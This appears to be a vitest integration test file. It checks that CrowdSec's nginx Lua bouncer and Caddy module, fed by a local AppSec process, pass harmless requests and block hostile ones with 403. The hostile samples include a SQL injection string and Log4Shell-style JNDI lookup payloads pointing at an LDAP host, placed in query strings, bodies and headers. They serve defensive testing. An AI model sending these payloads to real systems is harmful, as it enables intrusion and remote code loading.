import { execFileSync } from 'node:child_process'
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import http from 'node:http'
import type { Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { once } from 'node:events'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { EdgeFolder, EdgeProcess, edgeMain } from './support/edge-process.ts'
import { freePort } from './support/free-port.ts'
import { askOnce, getRequest } from './support/raw-client.ts'
import { RealServer, exampleText, isInstalled, nginxConf } from './support/real-server.ts'
import { compiledEdge } from './support/steps-edge.ts'

/** Where the packages are: below the root of the system, or unpacked somewhere else. */
const root = process.env['SEVENFOLD_BOUNCERS'] ?? ''
const lua = `${root}/usr/lib/crowdsec/lua`
const modules = `${root}/usr/lib/nginx/modules`
const library = `${root}/usr/lib/x86_64-linux-gnu`
const hasNginxBouncer =
  isInstalled('nginx') && existsSync(`${lua}/crowdsec.lua`) && existsSync(`${modules}/ngx_http_lua_module.so`)
const caddy = process.env['SEVENFOLD_CADDY'] ?? 'caddy'
const built = existsSync(edgeMain)

/** True for a Caddy that was built with the module of CrowdSec. */
function hasCaddyBouncer(): boolean {
  try {
    return execFileSync(caddy, ['list-modules'], { encoding: 'utf8' }).includes('http.handlers.appsec')
  } catch {
    return false
  }
}

const key = 'a-key-of-a-bouncer-0123456789'
const attack = "user=1'%20OR%20'1'='1"

let folder = ''
let data: EdgeFolder
let app: Server
let seen: string[] = []
let edge: EdgeProcess | undefined
let proxy: RealServer | undefined

beforeEach(async () => {
  folder = mkdtempSync(join(tmpdir(), 'sf-bouncers-'))
  data = new EdgeFolder()
  seen = []
  app = http.createServer((request, response) => {
    let body = ''
    request.on('data', (piece) => (body += String(piece)))
    request.once('end', () => {
      seen.push(`${request.method} ${request.url} ${body}`)
      response.end('app')
    })
  })
  app.listen(0, '127.0.0.1')
  await once(app, 'listening')
})
afterEach(async () => {
  await proxy?.stop()
  await edge?.stop()
  proxy = undefined
  edge = undefined
  app.closeAllConnections()
  app.close()
  data.remove()
  rmSync(folder, { recursive: true, force: true })
})

const appPort = (): number => (app.address() as AddressInfo).port

/** The edge with a door for bouncers at `port`; `site`: lines of its configuration. */
async function startEdge(port: number, site = ''): Promise<void> {
  const file = join(folder, 'appsec.key')
  writeFileSync(file, `${key}\n`, { mode: 0o600 })
  const door = {
    kind: 'appsec',
    site: 'shop',
    listen: { host: '127.0.0.1', port },
    trusted: ['127.0.0.0/8'],
    onDeadEdge: 'refuse',
    keys: [{ file }],
    bodySizeBytes: 65_536,
    onLongBody: 'drop',
    bodyTimeoutMs: 1000,
  }
  const config = compiledEdge(site)
  data.configure({
    ...config,
    workers: 1,
    ownListeners: [],
    beside: [door],
    sites: config.sites.map((one) => ({
      ...one,
      listen: { ...one.listen, port: 0 },
      upstream: { ...one.upstream, url: `http://127.0.0.1:${appPort()}`, port: appPort() },
    })),
  })
  edge = await EdgeProcess.start(data)
}

/** nginx with the bouncer, which asks at `port`; `change` replaces lines of the example. */
async function startNginx(port: number, change: Readonly<Record<string, string>> = {}): Promise<number> {
  const own = await freePort()
  const conf = join(folder, 'bouncer.conf')
  const text = exampleText('crowdsec-nginx-bouncer.conf', {
    // Decisions are tested where the Local API is; here only the judgement.
    'API_URL=http://127.0.0.1:7780': 'API_URL=',
    'the-key-of-the-bouncer': key,
    '127.0.0.1:7422': `127.0.0.1:${port}`,
    ...change,
  })
  writeFileSync(
    conf,
    `${text}SITE_KEY=x\nSECRET_KEY=y\nCAPTCHA_PROVIDER=turnstile\nCAPTCHA_TEMPLATE_PATH=${root}/var/lib/crowdsec/lua/templates/captcha.html\n`,
  )
  const server = `lua_package_path '${lua}/?.lua;${root}/usr/share/lua/5.1/?.lua;;';
lua_package_cpath '${library}/lua/5.1/?.so;;';
lua_shared_dict crowdsec_cache 10m;
init_by_lua_block {
  cs = require "crowdsec"
  local ok, err = cs.init("${conf}", "crowdsec-nginx-bouncer/test")
  if ok == nil then error(err) end
}
server {
  listen 127.0.0.1:${own};
  location / {
    access_by_lua_block { require("crowdsec").Allow(ngx.var.remote_addr) }
    proxy_pass http://127.0.0.1:${appPort()};
  }
}`
  const loads = ['ndk_http_module', 'ngx_http_lua_module']
    .map((name) => {
      const place = existsSync(`${modules}/${name}.so`) ? modules : '/usr/lib/nginx/modules'
      return `load_module ${place}/${name}.so;\n`
    })
    .join('')
  writeFileSync(join(folder, 'nginx.conf'), loads + nginxConf(folder, server))
  const libraries = root === '' ? [] : ['env', `LD_LIBRARY_PATH=${library}:${root}/lib/x86_64-linux-gnu`]
  proxy = await RealServer.start(
    [...libraries, 'nginx', '-e', join(folder, 'error.log'), '-c', join(folder, 'nginx.conf')],
    own,
  )
  return own
}

const get = (target: string, more = ''): string => getRequest(target, `${more}Connection: close\r\n`)
const post = (body: string, more = '', method = 'POST'): string =>
  `${method} /p HTTP/1.1\r\nHost: shop.test\r\nContent-Type: application/x-www-form-urlencoded\r\n${more}Content-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`
const chunked = (body: string): string =>
  `POST /p HTTP/1.1\r\nHost: shop.test\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`

describe("CrowdSec's bouncer for nginx", () => {
  const needs = "(needs nginx with its Lua module, CrowdSec's bouncer, dist)"

  it.skipIf(!built || !hasNginxBouncer)(
    `lets pass what the edge lets pass, with its body, and stops what it stops ${needs}`,
    async () => {
      const asked = await freePort()
      await startEdge(asked)
      const port = await startNginx(asked)
      const innocent = [
        get('/a?b=1'),
        post('a=1'),
        post('a=1', '', 'PUT'),
        chunked('a=1'),
        post('a=1', 'Expect: 100-continue\r\n'),
        'GET /old HTTP/1.0\r\n\r\n',
      ]
      for (const request of innocent) {
        expect((await askOnce(port, request)).body, request).toBe('app')
      }
      expect(seen).toEqual([
        'GET /a?b=1 ',
        'POST /p a=1',
        'PUT /p a=1',
        'POST /p a=1',
        'POST /p a=1',
        'GET /old ',
      ])
      const told =
        'X-Crowdsec-Appsec-Uri: /\r\nX-Crowdsec-Appsec-Ip: 192.0.2.1\r\nX-Crowdsec-Appsec-Verb: GET\r\n'
      const hostile = [
        get(`/?${attack}`),
        get(`/?${attack}`, told),
        get('/', 'User-Agent: ${jndi:ldap://192.0.2.1/a}\r\n'),
        get('/', 'X-Crowdsec-Appsec-Any: ${jndi:ldap://192.0.2.1/a}\r\n'),
        `GET /?${attack} HTTP/1.0\r\n\r\n`,
        post(attack),
        post(attack, '', 'PUT'),
        chunked(attack),
        post(`a=${'b'.repeat(20_000)}&${attack}`),
        post(`a=${'b'.repeat(65_536)}`),
      ]
      for (const request of hostile) {
        expect((await askOnce(port, request)).status, request.slice(0, 200)).toBe(403)
      }
      expect(seen).toHaveLength(6)
      await edge?.stop()
      const blocks = data.events().filter((event) => JSON.stringify(event).includes('"kind":"block"'))
      expect(blocks).toHaveLength(hostile.length)
      expect(blocks.every((event) => JSON.stringify(event).includes('"ip":"127.0.0.1"'))).toBe(true)
    },
  )

  it.skipIf(!built || !hasNginxBouncer)(
    `shows its captcha where the edge would have sent a challenge ${needs}`,
    async () => {
      const asked = await freePort()
      await startEdge(asked, 'challenge: { when: always }')
      const port = await startNginx(asked)
      const browser = 'User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0\r\nAccept: text/html\r\n'
      const page = await askOnce(port, get('/', browser))
      expect(page.body).toContain('turnstile')
      expect((await askOnce(port, get('/api', 'Accept: application/json\r\n'))).body).toBe('app')
      expect(seen).toEqual(['GET /api '])
    },
  )

  it.skipIf(!built || !hasNginxBouncer)(
    `hands nothing on while the edge is away, or everything, as it was told ${needs}`,
    async () => {
      const asked = await freePort()
      const closed = await startNginx(asked)
      for (const request of [get('/'), post('a=1')]) {
        expect((await askOnce(closed, request)).body).not.toBe('app')
      }
      expect(seen).toEqual([])
      await proxy?.stop()
      const open = await startNginx(asked, {
        'APPSEC_FAILURE_ACTION=deny': 'APPSEC_FAILURE_ACTION=passthrough',
      })
      expect((await askOnce(open, get('/'))).body).toBe('app')
      await proxy?.stop()
      // A wrong key is a failure, too.
      await startEdge(asked)
      const stranger = await startNginx(asked, { [`API_KEY=${key}`]: 'API_KEY=another-key-of-a-bouncer' })
      expect((await askOnce(stranger, get('/'))).body).not.toBe('app')
    },
  )
})

describe("CrowdSec's module for Caddy", () => {
  it.skipIf(!built || !hasCaddyBouncer())(
    'lets pass what the edge lets pass, with its body, and hands nothing on while the edge is away (needs Caddy built with caddy-crowdsec-bouncer, dist)',
    async () => {
      const decisions = http.createServer((_request, response) => response.end('{"new":null,"deleted":null}'))
      decisions.listen(0, '127.0.0.1')
      await once(decisions, 'listening')
      const [asked, port] = [await freePort(), await freePort()]
      await startEdge(asked)
      const file = join(folder, 'Caddyfile')
      writeFileSync(
        file,
        exampleText('Caddyfile-crowdsec', {
          ':443': `:${port}`,
          '127.0.0.1:7780': `127.0.0.1:${(decisions.address() as AddressInfo).port}`,
          '127.0.0.1:7422': `127.0.0.1:${asked}`,
          '127.0.0.1:8080': `127.0.0.1:${appPort()}`,
          'the-key-of-the-bouncer': key,
        }),
      )
      proxy = await RealServer.start([caddy, 'run', '--config', file, '--adapter', 'caddyfile'], port)
      for (const request of [get('/a?b=1'), post('a=1'), post('')]) {
        expect((await askOnce(port, request)).body, request).toBe('app')
      }
      const hostile = [
        get(`/?${attack}`),
        post(attack),
        get('/', 'User-Agent: ${jndi:ldap://192.0.2.1/a}\r\n'),
      ]
      for (const request of hostile) expect((await askOnce(port, request)).status, request).toBe(403)
      expect((await askOnce(port, chunked('a=1'))).status).toBe(411)
      expect(seen).toEqual(['GET /a?b=1 ', 'POST /p a=1', 'POST /p '])
      await edge?.stop()
      expect((await askOnce(port, get('/'))).status).toBe(500)
      expect(seen).toHaveLength(3)
      decisions.closeAllConnections()
      decisions.close()
    },
  )
})
